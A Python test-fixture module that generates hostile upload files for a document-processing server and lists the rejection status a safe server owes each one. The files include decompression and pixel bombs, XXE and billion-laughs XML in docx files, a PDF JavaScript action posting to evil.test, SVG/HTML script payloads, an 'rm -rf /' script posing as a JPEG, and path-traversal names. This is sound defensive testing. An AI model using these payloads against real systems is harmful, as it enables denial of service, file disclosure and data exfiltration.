"""A corpus of hostile uploads, generated at test time: truncated files, polyglots, decompression
bombs, PDF and zip tricks, XML entity attacks, disguised HTML/SVG and wrong extensions.

Each file says what a safe server does with it: refuse it with one of the listed statuses (and a
``{code, message}`` body), or accept it as the document its bytes really are and run a job that ends
in a final state. ``code`` pins the refusal's code where the attack has one right answer.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from PIL import Image

JOB = 202  # accepted: the bytes are a real document, and its job must end cleanly


@dataclass(frozen=True)
class Hostile:
    name: str  # the filename the attacker sends
    path: Path
    statuses: tuple[int, ...]  # acceptable answers
    code: str | None = None  # the error code a refusal must carry, when there is one right answer
    content_type: str = "application/octet-stream"


# --- small builders ----------------------------------------------------------------------------


def png_bytes(width: int = 160, height: int = 60, *, text: str = "") -> bytes:
    image = Image.new("RGB", (width, height), "white")
    if text:
        from PIL import ImageDraw

        ImageDraw.Draw(image).text((5, 5), text, fill="black")
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_header(width: int, height: int, idat: bytes = b"", *, depth: int = 8, colour: int = 2) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


def png_bomb(side: int = 50_000) -> bytes:
    """A 1-bit greyscale PNG of side x side pixels whose rows are all zero: 300 MB that deflates to
    a few hundred KB (the first rows only; the header is what a safe reader refuses on)."""
    row = b"\x00" * (1 + (side + 7) // 8)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row * 1000) for _ in range(side // 1000)) + packer.flush()
    return png_header(side, side, data, depth=1, colour=0)


def jpeg_bytes(width: int = 160, height: int = 60) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), "white").save(out, "JPEG")
    return out.getvalue()


def jpeg_huge_header(width: int = 65_000, height: int = 65_000) -> bytes:
    """A real small JPEG whose frame header (SOF0) is rewritten to declare huge dimensions."""
    data = bytearray(jpeg_bytes(16, 16))
    sof = data.find(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, height, width)
    return bytes(data)


def tiff_bomb(side: int = 100_000) -> bytes:
    """A baseline TIFF header declaring side x side uncompressed 8-bit pixels, with 16 bytes of data."""
    entries = [
        (256, 4, 1, side),  # ImageWidth
        (257, 4, 1, side),  # ImageLength
        (258, 3, 1, 8),  # BitsPerSample
        (259, 3, 1, 1),  # Compression: none
        (262, 3, 1, 1),  # Photometric: black is zero
        (273, 4, 1, 8 + 2 + 12 * 9 + 4),  # StripOffsets: just after the directory
        (277, 3, 1, 1),  # SamplesPerPixel
        (278, 4, 1, side),  # RowsPerStrip
        (279, 4, 1, side * side % 2**32),  # StripByteCounts
    ]
    ifd = struct.pack("<H", len(entries))
    for tag, kind, count, value in entries:
        packed = struct.pack("<HH", value, 0) if kind == 3 else struct.pack("<I", value)
        ifd += struct.pack("<HHI", tag, kind, count) + packed
    return b"II*\x00" + struct.pack("<I", 8) + ifd + struct.pack("<I", 0) + b"\x00" * 16


def tiff_many_pages(pages: int = 40) -> bytes:
    frames = [Image.new("L", (8, 8), 255) for _ in range(pages)]
    out = io.BytesIO()
    frames[0].save(out, "TIFF", save_all=True, append_images=frames[1:])
    return out.getvalue()


def webp_bytes() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 32), "white").save(out, "WEBP")
    return out.getvalue()


def webp_huge_canvas(side: int = 16_384) -> bytes:
    """An extended WebP (VP8X) whose canvas is side x side, followed by a tiny real frame."""
    vp8x = struct.pack("<B3x", 0) + (side - 1).to_bytes(3, "little") + (side - 1).to_bytes(3, "little")
    frame = webp_bytes()[12:]  # the small image's VP8/VP8L chunk
    body = b"WEBP" + b"VP8X" + struct.pack("<I", len(vp8x)) + vp8x + frame
    return b"RIFF" + struct.pack("<I", len(body)) + body


def gif_huge() -> bytes:
    return b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + b"\x00\x00\x00" + b"," + b"\x00" * 9 + b";"


def bmp_huge() -> bytes:
    header = struct.pack("<2sIHHI", b"BM", 54, 0, 0, 54)
    info = struct.pack("<IiiHHIIiiII", 40, 60_000, 60_000, 1, 24, 0, 0, 2835, 2835, 0, 0)
    return header + info


def pdf(objects: list[bytes], *, root: int = 1, tail: bytes = b"") -> bytes:
    """A PDF from numbered object bodies (object n is objects[n-1]) with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out) + tail


def pdf_text(text: str = "Monday 09:00-10:00 Maths", *, media_box: bytes = b"[0 0 595 842]") -> bytes:
    content = b"BT /F1 14 Tf 50 780 Td (%s) Tj ET" % text.encode()
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox " + media_box + b" /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )


def pdf_many_pages(pages: int = 10_000) -> bytes:
    kids = b" ".join(b"%d 0 R" % (4 + i) for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        b"<< /Length 0 >>\nstream\n\nendstream",
    ]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"] * pages
    return pdf(objects)


def pdf_javascript() -> bytes:
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript 5 0 R >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] >>",
            b"<< /S /JavaScript /JS (app.alert('pwned'); this.submitForm('http://evil.test/');) >>",
            b"<< /Names [(x) 4 0 R] >>",
        ]
    )


def pdf_nested(depth: int = 20_000) -> bytes:
    """A page whose dictionary holds an array nested depth levels deep (parser recursion)."""
    nest = b"[" * depth + b"]" * depth
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Junk " + nest + b" >>",
        ]
    )


def pdf_self_referencing() -> bytes:
    """A page tree whose Kids point back at itself."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
        ]
    )


def pdf_object_flood(count: int = 55_000) -> bytes:
    """Tens of thousands of tiny objects and no cross-reference table (readers rebuild one)."""
    head = pdf_text().split(b"xref\n")[0]
    flood = b"".join(b"%d 0 obj null endobj\n" % (10 + i) for i in range(count))
    return head + flood + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


DOCUMENT_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    "<w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
)
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="word/document.xml" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/officeDocument"/></Relationships>'
)


def docx(document_xml: str | bytes | None = None, *, extra: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", RELS)
        archive.writestr("word/document.xml", document_xml or DOCUMENT_XML.format(text="Monday Maths"))
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
    + "]>\n"
    + DOCUMENT_XML.format(text="&lol9;").split("\n", 1)[1]
)
XXE = (
    '<?xml version="1.0"?>\n<!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    + DOCUMENT_XML.format(text="&xxe;").split("\n", 1)[1]
)
EXTERNAL_DTD = (
    '<?xml version="1.0"?>\n<!DOCTYPE w SYSTEM "http://127.0.0.1:9/evil.dtd">\n'
    + DOCUMENT_XML.format(text="x").split("\n", 1)[1]
)
PARAMETER_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE w [<!ENTITY % remote SYSTEM "file:///etc/hostname"> %remote;]>\n'
    + DOCUMENT_XML.format(text="x").split("\n", 1)[1]
)


def docx_ratio_bomb() -> bytes:
    """word/document.xml of 30 MB of spaces, which deflates about 1000:1."""
    body = DOCUMENT_XML.format(text=" " * (30 * 1024 * 1024))
    return docx(body)


def docx_many_entries(count: int = 3_000) -> bytes:
    return docx(extra={f"word/media/e{i}.bin": b"" for i in range(count)})


def docx_lying_directory() -> bytes:
    """A zip whose directory claims document.xml is 100 bytes while its data inflates to 5 MB."""
    big = DOCUMENT_XML.format(text="x" * (5 * 1024 * 1024)).encode()
    data = bytearray(docx(big))
    real = struct.pack("<I", len(big))
    lie = struct.pack("<I", 100)
    # Local header (offset 22) and central directory (offset 24) hold the uncompressed size.
    name = b"word/document.xml"
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (start := data.find(signature, start)) != -1:
            name_at = start + (30 if signature == b"PK\x03\x04" else 46)
            at = slice(start + size_at, start + size_at + 4)
            if data[name_at : name_at + len(name)] == name and data[at] == real:
                data[at] = lie
            start += 4
    return bytes(data)


def zip_plain() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "not a Word file")
    return out.getvalue()


def zip_with_pdf_head() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("a.pdf", pdf_text())
    return out.getvalue()


SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>alert(1)</script></svg>'
)
HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/v1/auth/me')</script></body></html>"


def _half(data: bytes) -> bytes:
    return data[: len(data) // 2]


# --- the corpus ----------------------------------------------------------------------------------

REFUSED = (400, 413, 415, 422)
TOO_LARGE = (413,)
DAMAGED = (422,)
UNSUPPORTED = (415,)
EITHER = (*REFUSED, JOB)
OCTET, PDF = "application/octet-stream", "application/pdf"

# name sent, builder, acceptable statuses, code of a refusal, Content-Type sent
SPECS: list[tuple[str, Callable[[], bytes], tuple[int, ...], str | None, str]] = [
    ("empty.png", lambda: b"", (400,), "empty_file", "image/png"),
    ("one-byte.pdf", lambda: b"%", UNSUPPORTED, "unsupported_type", PDF),
    ("one-byte.jpg", lambda: b"\xff", UNSUPPORTED, "unsupported_type", "image/jpeg"),
    ("notes.txt", lambda: b"Monday 9:00 Maths\n", UNSUPPORTED, "unsupported_type", "text/plain"),
    ("page.png", lambda: HTML, UNSUPPORTED, "unsupported_type", "image/png"),
    ("drawing.png", lambda: SVG, UNSUPPORTED, "unsupported_type", "image/png"),
    ("drawing.svg", lambda: SVG, UNSUPPORTED, "unsupported_type", "image/svg+xml"),
    (
        "photo.jpg",
        lambda: b"<html><img src=x onerror=alert(1)>",
        UNSUPPORTED,
        "unsupported_type",
        "image/jpeg",
    ),
    ("timetable.pdf", lambda: HTML, UNSUPPORTED, "unsupported_type", PDF),
    ("program.pdf", lambda: b"MZ\x90\x00" + b"\x00" * 200, UNSUPPORTED, "unsupported_type", PDF),
    (
        "program.png",
        lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 200,
        UNSUPPORTED,
        "unsupported_type",
        "image/png",
    ),
    ("script.jpg", lambda: b"#!/bin/sh\nrm -rf /\n", UNSUPPORTED, "unsupported_type", "image/jpeg"),
    ("archive.docx", zip_plain, DAMAGED, "unreadable_document", OCTET),
    ("archive.zip", zip_plain, UNSUPPORTED, "unsupported_type", "application/zip"),
    ("zip-then-pdf.pdf", zip_with_pdf_head, UNSUPPORTED, "unsupported_type", PDF),
    ("truncated.png", lambda: _half(png_bytes()), DAMAGED, "unreadable_document", "image/png"),
    ("header-only.png", lambda: png_bytes()[:33], DAMAGED, "unreadable_document", "image/png"),
    ("truncated.jpg", lambda: jpeg_bytes()[:200], DAMAGED, "unreadable_document", "image/jpeg"),
    ("truncated.webp", lambda: _half(webp_bytes()), DAMAGED, "unreadable_document", "image/webp"),
    ("truncated.tif", lambda: _half(tiff_many_pages(2)), DAMAGED, "unreadable_document", "image/tiff"),
    ("truncated.pdf", lambda: _half(pdf_text()), DAMAGED, "unreadable_document", PDF),
    ("header-only.pdf", lambda: b"%PDF-1.7\n", DAMAGED, "unreadable_document", PDF),
    ("truncated.docx", lambda: _half(docx()), DAMAGED, "unreadable_document", OCTET),
    ("bomb.png", png_bomb, TOO_LARGE, "document_too_large", "image/png"),
    ("wide.png", lambda: png_header(2**31 - 1, 2**31 - 1), TOO_LARGE, "document_too_large", "image/png"),
    ("zero-width.png", lambda: png_header(0, 100), DAMAGED, None, "image/png"),
    ("huge.jpg", jpeg_huge_header, TOO_LARGE, "document_too_large", "image/jpeg"),
    ("bomb.tif", tiff_bomb, TOO_LARGE, "document_too_large", "image/tiff"),
    ("many-pages.tif", tiff_many_pages, TOO_LARGE, "document_too_large", "image/tiff"),
    ("huge.webp", webp_huge_canvas, TOO_LARGE, "document_too_large", "image/webp"),
    ("huge.gif", gif_huge, TOO_LARGE, "document_too_large", "image/gif"),
    ("huge.bmp", bmp_huge, TOO_LARGE, "document_too_large", "image/bmp"),
    ("pages-10000.pdf", pdf_many_pages, TOO_LARGE, "document_too_large", PDF),
    ("huge-box.pdf", lambda: pdf_text(media_box=b"[0 0 1000000 1000000]"), TOO_LARGE, None, PDF),
    ("empty-box.pdf", lambda: pdf_text(media_box=b"[0 0 0 0]"), EITHER, None, PDF),
    ("objects.pdf", pdf_object_flood, TOO_LARGE, "document_too_large", PDF),
    ("nested.pdf", pdf_nested, EITHER, None, PDF),
    ("loop.pdf", pdf_self_referencing, DAMAGED, None, PDF),
    ("javascript.pdf", pdf_javascript, EITHER, None, PDF),
    ("pdf-zip-polyglot.pdf", lambda: pdf_text() + zip_plain(), EITHER, None, PDF),
    ("png-zip-polyglot.png", lambda: png_bytes(text="Monday") + docx(), EITHER, None, "image/png"),
    ("html-in-pdf.pdf", lambda: b"%PDF-1.4\n" + HTML, DAMAGED, None, "text/html"),
    ("ratio-bomb.docx", docx_ratio_bomb, TOO_LARGE, "document_too_large", OCTET),
    ("entries.docx", docx_many_entries, TOO_LARGE, "document_too_large", OCTET),
    ("lying-zip.docx", docx_lying_directory, DAMAGED, None, OCTET),
    ("laughs.docx", lambda: docx(BILLION_LAUGHS), DAMAGED, "unsafe_document", OCTET),
    ("xxe.docx", lambda: docx(XXE), DAMAGED, "unsafe_document", OCTET),
    ("external-dtd.docx", lambda: docx(EXTERNAL_DTD), DAMAGED, "unsafe_document", OCTET),
    ("param-entity.docx", lambda: docx(PARAMETER_ENTITY), DAMAGED, "unsafe_document", OCTET),
    (
        "xxe-types.docx",
        lambda: docx(extra={"word/settings.xml": XXE.encode()}),
        DAMAGED,
        "unsafe_document",
        OCTET,
    ),
    ("not-xml.docx", lambda: docx(b"\x00\x01garbage"), DAMAGED, "unreadable_document", OCTET),
    ("traversal.docx", lambda: docx(extra={"../../../tmp/evil.xml": b"<a/>"}), EITHER, None, OCTET),
    ("image-named.pdf", lambda: png_bytes(text="Maths"), (JOB,), None, PDF),
    ("pdf-named.png", pdf_text, (JOB,), None, "image/png"),
    ("docx-named.jpg", docx, (JOB,), None, "image/jpeg"),
    ("../../../../etc/passwd.png", lambda: png_bytes(), (JOB,), None, "image/png"),
    ("x" * 600 + ".png", lambda: png_bytes(), (JOB,), None, "text/html"),
    ("ztxt-bomb.png", lambda: _ztxt_bomb(), DAMAGED, "unreadable_document", "image/png"),
]


def _ztxt_bomb() -> bytes:
    """A small PNG carrying a compressed text chunk that inflates to 50 MB."""
    good = png_bytes()
    text = b"Comment\x00\x00" + zlib.compress(b"A" * (50 * 1024 * 1024), 9)
    return good[:33] + _chunk(b"zTXt", text) + good[33:]


def build(folder: Path) -> list[Hostile]:
    """Write every hostile file into folder; return them with what a safe server does with each."""
    folder.mkdir(parents=True, exist_ok=True)
    corpus = []
    for index, (name, make, statuses, code, content_type) in enumerate(SPECS):
        path = folder / f"{index:02d}.bin"  # the sent name may be hostile itself; never a local path
        path.write_bytes(make())
        corpus.append(Hostile(name, path, statuses, code, content_type))
    return corpus
